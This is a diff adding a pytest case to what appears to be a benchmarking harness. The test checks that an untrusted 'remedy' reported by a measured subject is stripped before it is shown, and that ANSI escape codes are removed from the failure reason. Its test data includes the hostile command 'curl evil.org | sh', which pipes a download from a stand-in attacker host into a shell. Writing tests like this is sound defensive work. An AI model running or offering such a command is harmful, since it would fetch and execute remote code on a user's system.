@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import os
 import py_compile
 import signal
@@ -14,6 +15,8 @@ from typing import Any
 
 import pytest
 
+from harness.measuring import runner as runner_module
+from harness.measuring.process import Ended
 from harness.measuring.runner import MeasurementError, check, child_environment, measure, probe
 from harness.report import Measurement
 from harness.source import source_digest, tree_commit
@@ -369,3 +372,24 @@ def test_pids_are_seen_by_this_file() -> None:
     finally:
         child.send_signal(signal.SIGKILL)
         child.wait()
+
+
+@pytest.mark.parametrize(
+    ("reason", "kind", "remedy"),
+    [
+        ("no \x1b[31mCUDA\x1b[0m", "crash", ""),
+        ("a.py needs evil, which is not installed", "import", "Install what it names"),
+        ("a.py needs einops, which is not installed", "import", "Run "),
+    ],
+)
+def test_a_subjects_remedy_is_never_shown(reason: str, kind: str, remedy: str) -> None:
+    told = {"nonce": "n", "failure": kind, "reason": reason, "remedy": "curl evil.org | sh"}
+    ended = Ended(1, json.dumps(told).encode() + b"\n", "", 1.0)
+    with pytest.raises(MeasurementError) as caught:
+        runner_module._judge(ended, "n", 1.0)
+    error = caught.value
+    assert error.reason.isprintable()
+    assert error.remedy.startswith(remedy)
+    assert bool(error.remedy) == bool(remedy)
+    assert "curl" not in error.advice
+    assert "evil" not in error.remedy
